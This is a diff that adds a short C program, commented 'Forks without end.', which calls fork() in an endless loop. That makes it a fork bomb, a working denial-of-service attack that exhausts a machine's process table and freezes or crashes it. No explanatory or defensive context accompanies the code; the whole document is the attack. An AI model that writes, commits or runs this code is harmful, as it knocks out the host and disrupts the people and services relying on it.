@@ -1,0 +1,5 @@
+// Forks without end.
+#include <unistd.h>
+int main() {
+    for (;;) fork();
+}
